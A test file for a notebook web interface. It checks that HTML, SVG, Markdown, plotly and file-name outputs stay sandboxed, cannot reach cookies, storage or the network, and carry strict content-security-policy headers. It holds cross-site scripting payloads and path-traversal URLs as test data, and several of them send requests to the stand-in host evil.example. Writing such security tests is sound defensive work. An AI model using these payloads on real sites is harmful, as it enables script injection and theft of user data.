import { expect, it } from 'vitest';
import type { Face } from '../pages.ts';
import { drawn, openNotebook, runCell } from './notebook.ts';

/** Tries everything that a document can try. What runs leaves a mark in a title, what leaves makes a request. */
const attack = `
<title>pwned</title><script>top.document.title = 'pwned'; document.title = 'ran'; parent.postMessage({ t: 'pwned' }, '*')</script>
<img src=x onerror="parent.postMessage({t:'pwned'},'*'); fetch('https://evil.example/?a')">
<svg onload="parent.postMessage({t:'pwned'},'*')"><script>parent.postMessage({t:'pwned'},'*')</script></svg>
<a href="javascript:parent.postMessage({t:'pwned'},'*')">link</a><iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><button>go</button></form><link rel=stylesheet href="https://evil.example/x.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<style>body { background: url(https://evil.example/y.png) } @import 'https://evil.example/z.css';</style>
<math><mtext><table><mglyph><style><img src=x onerror=parent.postMessage({t:'pwned'},'*')></style></mglyph></table></mtext></math>
<p>harmless words</p>`;

const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="top.document.title='pwned'"><script>top.document.title='pwned'</script><image href="https://evil.example/a.png"/><rect width="40" height="40" fill="red"/></svg>`;

const marks = `window.pwned = []; addEventListener('message', (event) => { if (event.data?.t === 'pwned') window.pwned.push(event.data) });`;

export function hostileScenes(face: () => Face): void {
  it('HTML, SVG, Markdown, plotly and names of files neither run at this origin, nor leave, nor fetch', async () => {
    const { page, context, foreign } = await openNotebook(face(), { hostile: true });
    await page.evaluate(marks);
    const code = [
      'from IPython.display import HTML, SVG, Markdown, display',
      `display(HTML(${JSON.stringify(attack)}))`,
      `display(SVG(data=${JSON.stringify(svg)}))`,
      `display(Markdown(${JSON.stringify('<img src=x onerror=alert(1)> [link](javascript:alert(1)) ![i](https://evil.example/i.png) **words**')}))`,
      `display({"application/vnd.plotly.v1+json": {"data": [{"type": "bar", "x": ["<img src=x onerror=parent.postMessage({t:'pwned'},'*')>"], "y": [1]}], "layout": {"title": {"text": "<a href='javascript:1'>t</a>"}}}}, raw=True)`,
      'open("<img src=x onerror=alert(1)>.txt", "w").write("x") and None',
    ].join('\n');
    await runCell(page, code);
    await drawn(page, 'HTML output', (frame) => frame.getByText('harmless words'));
    await page.locator('.fig img').waitFor();
    await drawn(page, 'Interactive figure', (frame) => frame.locator('.plot-container'));
    await page.locator('strong').getByText('words').waitFor();
    await page.locator('.chip').getByText('onerror=alert(1)').waitFor();
    expect(await page.evaluate('window.pwned')).toEqual([]);
    expect(await page.title()).not.toContain('pwned');
    expect(foreign).toEqual([]);
    // Links of programs lead nowhere.
    expect(await page.locator('a[href^="javascript:"]').count()).toBe(0);
    await context.close();
  });

  it('a program of an output runs after a click alone, without network, cookies, storage or the page', async () => {
    const { page, context, foreign } = await openNotebook(face(), { hostile: true });
    const probe = `<p id=out>not run</p><script>
      (async () => {
        const tried = {};
        const attempt = async (name, work) => { try { tried[name] = await work() } catch (error) { tried[name] = 'refused' } };
        await attempt('cookie', () => document.cookie);
        await attempt('storage', () => localStorage.length);
        await attempt('parent', () => parent.document.title);
        await attempt('fetch', () => fetch('${face().server.url}/v1/sessions').then((r) => r.status));
        await attempt('away', () => fetch('https://evil.example/').then((r) => r.status));
        document.getElementById('out').textContent = JSON.stringify(tried);
      })();
    </script>`;
    await runCell(page, `from IPython.display import HTML\nHTML(${JSON.stringify(probe)})`);
    await drawn(page, 'HTML output', (frame) => frame.getByText('not run'));
    await page.getByRole('button', { name: 'Run it' }).click();
    const out = page.frameLocator('iframe[title="Output with a program"]').locator('#out');
    await expect.poll(() => out.innerText()).toContain('{');
    const tried = JSON.parse(await out.innerText());
    expect(tried).toEqual({
      cookie: 'refused',
      storage: 'refused',
      parent: 'refused',
      fetch: 'refused',
      away: 'refused',
    });
    expect(foreign).toEqual([]);
    await context.close();
  });

  it('the pages and the frames have their policies, and no page may frame them', async () => {
    const head = async (path: string) => (await fetch(face().server.url + path)).headers;
    const page = (await head('/ui/notebooks')).get('content-security-policy')!;
    for (const part of [
      "default-src 'none'",
      "script-src 'self';",
      "frame-ancestors 'none'",
      "trusted-types 'none'",
      "connect-src 'self'",
    ])
      expect(page).toContain(part);
    expect(page).not.toContain('unsafe');
    const still = (await head('/ui/frame/still')).get('content-security-policy')!;
    expect(still).toMatch(/^sandbox allow-scripts; default-src 'none'; script-src 'nonce-/);
    expect((await head('/ui/frame/live')).get('content-security-policy')).not.toContain('connect-src');
    expect((await head('/ui/assets/../index.html')).get('content-security-policy')).toBeTruthy();
    for (const path of [
      '/ui/assets/..%2findex.html',
      '/ui/assets/..%2f..%2f..%2fpackage.json',
      '/ui/assets/nothing.js',
    ])
      expect([path, (await fetch(face().server.url + path)).status]).toEqual([path, 404]);
  });
}
